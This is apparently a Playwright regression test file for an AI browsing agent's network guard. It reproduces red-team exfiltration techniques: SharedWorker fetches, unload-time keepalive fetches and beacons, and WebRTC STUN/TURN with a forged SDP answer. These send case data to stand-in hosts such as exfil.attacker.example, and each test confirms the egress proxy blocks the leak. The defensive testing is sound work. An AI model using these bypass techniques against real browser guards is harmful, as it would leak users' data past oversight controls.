import { createSocket, type Socket as UdpSocket } from 'node:dgram';
import type { Page } from 'playwright-core';
import { beforeEach, describe, expect, it } from 'vitest';
import { loadPortalProfile } from '../../src/agent/case/portal-profiles';
import { installWatchdogs, openGuardedContext, type GuardEvent } from '../../src/agent/guard/browser';
import { bindLabProfile, PORTAL_HOSTS } from '../../lab';
import { useLabBrowser } from '../support/lab-browser';

/**
 * Holes the red team found in the guard, each as its smallest repro, kept as regression tests: a
 * portal page (the portal compromised, or showing user content) in a context opened exactly as a
 * run opens one (`openGuardedContext` + `installWatchdogs`), counted where requests land: the
 * lab's attacker hosts, its second port, and every lab host that is not the portal's.
 *
 * HOLE 1, SharedWorker (attack `shared-worker`): the network lock is Playwright request routing
 * on the context, and in Chromium that routing does not see requests made by a SharedWorker; the
 * redirect lock attaches to the page and its frames, not to worker targets. A page script could
 * start a SharedWorker and post it what the agent typed; the worker's fetch, WebSocket and
 * importScripts reached any host, IP literals and other ports included.
 *
 * HOLE 2, requests sent while a page unloads (attack `unload-keepalive`): a keepalive fetch or a
 * beacon started in a `pagehide` handler outlives its document, and the routing no longer sees it.
 *
 * Closed by the egress lock (src/agent/guard/egress-proxy.ts): every context of a run goes
 * through a proxy of its own, in Chromium's network stack below any document, that lets only the
 * portal's addresses through. Each test also checks the lock's report, which proves the request
 * was made (and stopped), so a test cannot pass because the page never tried.
 *
 * HOLE 3, WebRTC (found while closing the first two; attack `webrtc-udp`): WebRTC sends UDP past
 * any proxy. A page that sets a hard-coded answer (no signalling server needed) makes Chromium send
 * ICE connectivity checks to any address and port; STUN and TURN servers are reached the same way.
 * Closed by the launch flag `--webrtc-ip-handling-policy=disable_non_proxied_udp` (CHROMIUM_FLAGS):
 * WebRTC then uses only TCP through the proxy, where the egress lock refuses it.
 */

const live = useLabBrowser();
beforeEach(() => live.lab.reset());

interface Guarded {
  page: Page;
  events: GuardEvent[];
  close: () => Promise<void>;
}

/** A portal page in a guarded context, exactly as a run gets one. */
async function guardedPortalPage(): Promise<Guarded> {
  const profile = bindLabProfile(loadPortalProfile('shops'), live.lab.port);
  const context = await openGuardedContext(live.browser, profile);
  const events: GuardEvent[] = [];
  const watchdogs = await installWatchdogs(context, profile, (event) => events.push(event));
  const page = await watchdogs.openPage();
  await page.goto(`${live.lab.origin('shops')}/sign-in`);
  return { page, events, close: () => context.close() };
}

/** Everything that reached the lab off the portal: attacker hosts, the second port, other lab hosts (the control API on 127.0.0.1). */
function offPortal(): string[] {
  return [
    ...live.lab.attackerRequests().map((r) => `attacker ${r.method} ${r.host}${r.path} ${r.body}`),
    ...live.lab.requestLog().filter((r) => r.host !== PORTAL_HOSTS.shops).map((r) => `lab ${r.method} ${r.host}${r.path}`),
  ];
}

/** The egress lock's reports (the proxy is the only layer whose details name it). */
function egressStops(events: readonly GuardEvent[]): string[] {
  return events.filter((e) => e.type === 'request_blocked' && e.detail.includes('egress lock')).map((e) => e.url ?? '');
}

/** Starts a request to the attacker from a pagehide handler, then leaves the page the way the agent does. */
async function leakOnTheWayOut(page: Page, kind: 'keepalive' | 'beacon'): Promise<void> {
  const url = `http://exfil.attacker.example:${live.lab.port}/unload-${kind}`;
  await page.evaluate(
    ([target, how]) => {
      addEventListener('pagehide', () => {
        if (how === 'beacon') navigator.sendBeacon(target!, 'owner_pan=AMNPR6621D');
        else void fetch(target!, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'owner_pan=AMNPR6621D' }).catch(() => undefined);
      });
    },
    [url, kind],
  );
  await page.goto(`${live.lab.origin('shops')}/sign-in?next`);
}

const WORKER_PATH = '/lab-attack/page/shared-worker/shared-worker.js?atk=shared-worker';

describe('guard holes found by the red team, closed by the egress lock', () => {
  it('control: a dedicated Worker\'s requests are stopped by the network lock', async () => {
    const { page, events, close } = await guardedPortalPage();
    try {
      await page.evaluate((src) => {
        new Worker(src.replace('shared-worker.js', 'worker.js').replace('/shared-worker/', '/dedicated-worker/')).postMessage('owner_pan=AMNPR6621D');
      }, WORKER_PATH);
      await expect.poll(() => events.filter((e) => e.type === 'request_blocked').length, { timeout: 15_000 }).toBeGreaterThanOrEqual(2);
      expect(live.lab.attackRecords().hits.some((h) => h.kind === 'page')).toBe(true);
      await page.waitForTimeout(500);
      expect(offPortal()).toEqual([]);
    } finally {
      await close();
    }
  }, 120_000);

  it('HOLE 1 closed: a SharedWorker started by a portal page cannot send the typed case data to the attacker', async () => {
    const { page, events, close } = await guardedPortalPage();
    try {
      await page.evaluate((src) => {
        const worker = new SharedWorker(src);
        worker.port.start();
        worker.port.postMessage('owner_pan=AMNPR6621D');
      }, WORKER_PATH);
      // The worker script was served (the attempt was made), and the egress lock stopped both of its posts...
      await expect.poll(() => egressStops(events).filter((u) => u.includes('exfil.attacker.example')).length, { timeout: 15_000 }).toBe(2);
      expect(live.lab.attackRecords().hits.some((h) => h.kind === 'page' && h.attack === 'shared-worker')).toBe(true);
      // ...so nothing reached the attacker.
      await page.waitForTimeout(500);
      expect(offPortal()).toEqual([]);
    } finally {
      await close();
    }
  }, 120_000);

  it('HOLE 1 closed: a SharedWorker from a blob: address reaches no attacker name, IP literal, other port or socket, and only the portal answers it', async () => {
    const { page, events, close } = await guardedPortalPage();
    try {
      const targets = {
        name: `http://exfil.attacker.example:${live.lab.port}/worker-fetch?d=AMNPR6621D`,
        ip: `http://127.0.0.1:${live.lab.port}/worker-ip?d=AMNPR6621D`,
        otherPort: `http://${PORTAL_HOSTS.shops}:${live.lab.attackerPort}/worker-port?d=AMNPR6621D`,
        socket: `ws://exfil.attacker.example:${live.lab.port}/worker-socket?d=AMNPR6621D`,
        script: `http://exfil.attacker.example:${live.lab.port}/worker-import.js?d=AMNPR6621D`,
        portal: `${live.lab.origin('shops')}/sign-in?from-worker`,
      };
      const answer = await page.evaluate(async (t) => {
        const source = `
          onconnect = async (e) => {
            const port = e.ports[0];
            const tried = (p) => p.then(() => 'reached', () => 'failed');
            const results = {
              name: await tried(fetch(${JSON.stringify(t.name)}, { method: 'POST', mode: 'no-cors', body: 'owner_pan=AMNPR6621D' })),
              ip: await tried(fetch(${JSON.stringify(t.ip)}, { mode: 'no-cors' })),
              otherPort: await tried(fetch(${JSON.stringify(t.otherPort)}, { mode: 'no-cors' })),
              socket: await new Promise((r) => { const s = new WebSocket(${JSON.stringify(t.socket)}); s.onopen = () => r('reached'); s.onerror = () => r('failed'); }),
              script: (() => { try { importScripts(${JSON.stringify(t.script)}); return 'reached'; } catch (err) { return 'failed'; } })(),
              portal: await fetch(${JSON.stringify(t.portal)}).then((r) => String(r.status), () => 'failed'),
            };
            port.postMessage(results);
          };`;
        const worker = new SharedWorker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
        return new Promise((resolve) => {
          worker.port.onmessage = (m) => resolve(m.data as Record<string, string>);
          worker.port.start();
        });
      }, targets);
      // The worker ran, the portal answered it, and every other attempt failed in the worker...
      expect(answer).toEqual({ name: 'failed', ip: 'failed', otherPort: 'failed', socket: 'failed', script: 'failed', portal: '200' });
      // ...because the egress lock refused it (a name, an IP literal, another port, a tunnel for the socket)...
      const stops = egressStops(events);
      expect(stops).toEqual(
        expect.arrayContaining([
          targets.name,
          targets.ip,
          targets.otherPort,
          `exfil.attacker.example:${live.lab.port}`,
          targets.script,
        ]),
      );
      // ...and nothing landed anywhere but on the portal.
      await page.waitForTimeout(500);
      expect(offPortal()).toEqual([]);
    } finally {
      await close();
    }
  }, 120_000);

  it('control: the same keepalive fetch and beacon, sent while the page is alive, are stopped', async () => {
    const { page, events, close } = await guardedPortalPage();
    try {
      await page.evaluate((target) => {
        void fetch(target, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'owner_pan=AMNPR6621D' }).catch(() => undefined);
        navigator.sendBeacon(target, 'owner_pan=AMNPR6621D');
      }, `http://exfil.attacker.example:${live.lab.port}/alive`);
      await expect.poll(() => events.filter((e) => e.type === 'request_blocked').length, { timeout: 15_000 }).toBeGreaterThanOrEqual(2);
      await page.waitForTimeout(500);
      expect(offPortal()).toEqual([]);
    } finally {
      await close();
    }
  }, 120_000);

  it('HOLE 2 closed: a keepalive fetch and a beacon a portal page sends as the agent leaves it reach nobody', async () => {
    const { page, events, close } = await guardedPortalPage();
    try {
      await leakOnTheWayOut(page, 'keepalive');
      await leakOnTheWayOut(page, 'beacon');
      const unload = (kind: string) => `http://exfil.attacker.example:${live.lab.port}/unload-${kind}`;
      await expect.poll(() => egressStops(events).filter((u) => u === unload('keepalive') || u === unload('beacon')).sort(), { timeout: 15_000 }).toEqual([unload('beacon'), unload('keepalive')]);
      await page.waitForTimeout(1000);
      expect(offPortal()).toEqual([]);
    } finally {
      await close();
    }
  }, 120_000);

  it('HOLE 2 closed: the same on the way out of a closing page', async () => {
    const { page, events, close } = await guardedPortalPage();
    try {
      const target = `http://exfil.attacker.example:${live.lab.port}/unload-on-close`;
      await page.evaluate((t) => {
        addEventListener('pagehide', () => {
          void fetch(t, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'owner_pan=AMNPR6621D' }).catch(() => undefined);
          navigator.sendBeacon(`${t}-beacon`, 'owner_pan=AMNPR6621D');
        });
      }, target);
      await page.close({ runBeforeUnload: true });
      await expect.poll(() => egressStops(events).filter((u) => u.startsWith(target)).sort(), { timeout: 15_000 }).toEqual([target, `${target}-beacon`]);
      await new Promise((resolve) => setTimeout(resolve, 1000));
      expect(offPortal()).toEqual([]);
    } finally {
      await close();
    }
  }, 120_000);

  it('HOLE 3 closed: WebRTC sends no UDP to an address a page hard-codes, and its TURN over TCP meets the egress lock', async () => {
    const udp: UdpSocket = createSocket('udp4');
    const datagrams: string[] = [];
    udp.on('message', (message, from) => datagrams.push(`${from.address}:${from.port} ${message.length} bytes`));
    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
    const { page, events, close } = await guardedPortalPage();
    try {
      const port = udp.address().port;
      const answer = await page.evaluate(async (p) => {
        const pc = new RTCPeerConnection({
          iceServers: [
            { urls: [`stun:127.0.0.1:${p}`, `stun:stun.attacker.example:${p}`] },
            { urls: [`turn:127.0.0.1:${p}?transport=udp`, `turn:turn.attacker.example:${p}?transport=tcp`], username: 'owner_pan=AMNPR6621D', credential: 'x' },
          ],
        });
        pc.createDataChannel('exfil');
        const offer = await pc.createOffer();
        await pc.setLocalDescription(offer);
        // The attacker's "answer", written into the page: its own ICE credentials and a candidate at the UDP listener.
        const sdp = offer.sdp!.replace('a=setup:actpass', 'a=setup:active').replace(/a=ice-ufrag:.*/, 'a=ice-ufrag:EVIL').replace(/a=ice-pwd:.*/, 'a=ice-pwd:evilevilevilevilevilevil') + `a=candidate:1 1 udp 2122260223 127.0.0.1 ${p} typ host\r\n`;
        await pc.setRemoteDescription({ type: 'answer', sdp });
        await new Promise((r) => setTimeout(r, 3000));
        const state = pc.iceConnectionState;
        pc.close();
        return state;
      }, port);
      // The page did all it could (the TURN server over TCP was asked for, and refused by the egress lock)...
      await expect.poll(() => egressStops(events), { timeout: 15_000 }).toContain(`turn.attacker.example:${port}`);
      expect(answer).not.toBe('connected');
      // ...and not one datagram reached the listener: no connectivity check, no STUN, no TURN over UDP.
      expect(datagrams).toEqual([]);
      expect(offPortal()).toEqual([]);
    } finally {
      await close();
      udp.close();
    }
  }, 120_000);
});
